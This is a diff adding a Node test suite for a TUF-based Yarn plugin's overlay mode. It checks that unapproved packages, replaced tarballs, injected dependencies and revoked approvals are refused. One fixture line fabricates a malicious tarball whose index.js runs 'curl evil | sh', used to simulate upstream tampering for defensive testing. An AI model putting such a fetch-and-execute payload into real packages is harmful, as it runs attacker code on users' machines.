@@ -1,0 +1,109 @@
+import { after, before, describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { buildPackageTarball, packumentFile, tarballFile } from '@tufpm/registry';
+import { OVERLAY_APPROVAL_ROLE } from '@tufpm/verify';
+import type { CliResult } from '../src/harness/npm-world.js';
+import { OverlayWorld } from '../src/harness/overlay-world.js';
+import type { YarnProject } from '../src/harness/yarn.js';
+
+// Overlay mode (ADR 0017) with real Yarn 4 and the tufpm plugin: the upstream is a loopback registry serving
+// no TUF metadata, the team's approvals (from a yarn.lock) are served by a separate static server. Every
+// refused install exits 1 with a coded report and leaves yarn.lock, tufpm-lock.json, .pnp.cjs, the
+// install state and node_modules as they were.
+
+const evilTarball = (name: string, version: string): Uint8Array =>
+  buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });
+
+async function refused(project: YarnProject, args: string[], code: RegExp, ...also: RegExp[]): Promise<CliResult> {
+  const before = await project.state();
+  const res = await project.yarn(args);
+  assert.equal(res.code, 1, `exit code 1 expected\n${res.stdout}${res.stderr}`);
+  assert.match(res.stdout, code);
+  for (const re of also) assert.match(res.stdout, re);
+  assert.doesNotMatch(res.stdout, /Internal Error|\n\s+at /, 'a coded report, not a crash');
+  assert.deepEqual(await project.state(), before, 'nothing touched');
+  return res;
+}
+
+function ok(res: CliResult, what: string): void {
+  assert.equal(res.code, 0, `${what}\n${res.stdout}${res.stderr}`);
+}
+
+describe('overlay mode: Yarn against an upstream registry without TUF metadata', () => {
+  let world: OverlayWorld;
+  let yarnLock: string;
+
+  before(async () => {
+    world = await OverlayWorld.create();
+    await world.upstream.publishUnsigned('right', '1.0.0');
+    await world.upstream.publishUnsigned('left', '1.0.0', { right: '^1.0.0' });
+    await world.upstream.publishUnsigned('stray', '1.0.0');
+    // the team's project as it is today: plain Yarn against the upstream
+    const plain = await world.yarnProject({ left: '^1.0.0' }, { plugin: false });
+    ok(await plain.yarn(['install', '--mode=update-lockfile']), 'plain Yarn writes yarn.lock');
+    yarnLock = (await plain.read('yarn.lock'))!;
+    const approved = await world.overlay(['approve', '--lockfile', join(plain.dir, 'yarn.lock'), '--key', world.reviewers[0]!.file, '--json']);
+    ok(approved, 'approve yarn.lock');
+    assert.deepEqual((JSON.parse(approved.stdout) as { new: string[] }).new, ['left@1.0.0', 'right@1.0.0']);
+  });
+  after(() => world.close());
+
+  async function approvedProject(): Promise<YarnProject> {
+    const project = await world.yarnProject({ left: '^1.0.0' });
+    await project.write('yarn.lock', yarnLock);
+    return project;
+  }
+
+  test('an approved yarn.lock installs from the upstream, verified against the team\'s repository', async () => {
+    const project = await approvedProject();
+    ok(await project.yarn(['install']), 'yarn install');
+    const lock = JSON.parse((await project.read('tufpm-lock.json'))!) as { packages: Record<string, { role: string }> };
+    assert.equal(lock.packages['right@1.0.0']?.role, OVERLAY_APPROVAL_ROLE);
+    await project.freshMachine();
+    ok(await project.yarn(['install', '--immutable']), 'yarn install --immutable on a fresh machine');
+  });
+
+  test('rejects yarn add of an unapproved package before downloading anything', async () => {
+    const project = await approvedProject();
+    ok(await project.yarn(['install']), 'yarn install');
+    await refused(project, ['add', 'stray'], /TUF_NOT_APPROVED/, /stray/, /tufpm-overlay approve/);
+    assert.deepEqual(await project.archives('cache'), (await project.archives('cache')).filter((f) => !f.startsWith('stray-')), 'no archive of stray');
+  });
+
+  test('rejects an approved version whose tarball the upstream replaced', async () => {
+    const project = await approvedProject();
+    const saved = await readFile(tarballFile(world.upstream.registryDir, 'right/-/right-1.0.0.tgz'));
+    await world.upstream.replaceTarball('right', '1.0.0', evilTarball('right', '1.0.0'));
+    try {
+      await refused(project, ['install'], /TUF_TARBALL_MISMATCH/, /right@1\.0\.0|right@npm:1\.0\.0/);
+    } finally {
+      await world.upstream.replaceTarball('right', '1.0.0', saved);
+    }
+  });
+
+  test('rejects a dependency the upstream added to the packument of an approved version', async () => {
+    const file = packumentFile(world.upstream.registryDir, 'left');
+    const saved = await readFile(file);
+    await world.upstream.addPackumentDependency('left', '1.0.0', 'right', '^1.0.0 || ^2.0.0');
+    try {
+      const project = await world.yarnProject({ left: '^1.0.0' });
+      await refused(project, ['install'], /TUF_EXTRANEOUS_DEPENDENCY/, /left/);
+    } finally {
+      await writeFile(file, saved);
+    }
+  });
+
+  test('rejects a revoked approval on the next install', async () => {
+    const project = await approvedProject();
+    ok(await project.yarn(['install']), 'installs while approved');
+    ok(await world.overlay(['revoke', 'right@1.0.0', '--key', world.reviewers[0]!.file]), 'revoke');
+    try {
+      await project.freshMachine();
+      await refused(project, ['install', '--immutable'], /TUF_NOT_APPROVED/, /right/);
+    } finally {
+      ok(await world.overlay(['approve', '--lockfile', join(project.dir, 'yarn.lock'), '--key', world.reviewers[0]!.file]), 're-approve');
+    }
+  });
+});
